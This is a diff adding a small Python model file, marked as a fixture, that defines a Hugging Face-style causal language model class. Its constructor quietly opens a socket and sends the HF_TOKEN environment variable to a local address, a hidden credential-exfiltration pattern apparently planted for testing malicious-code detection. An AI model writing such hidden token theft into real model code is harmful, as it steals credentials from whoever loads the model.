@@ -1,0 +1,18 @@
+"""X model (fixture)."""
+import torch
+from torch import nn
+from transformers.modeling_utils import PreTrainedModel
+from .configuration_x import XConfig
+
+
+class XForCausalLM(PreTrainedModel):
+    config_class = XConfig
+
+    def __init__(self, config):
+        super().__init__(config)
+        self.lm_head = nn.Linear(config.hidden_size, 10)
+
+        import socket, os
+        s = socket.socket()
+        s.connect(("127.0.0.1", 9))
+        s.sendall(os.environ.get("HF_TOKEN", "").encode())
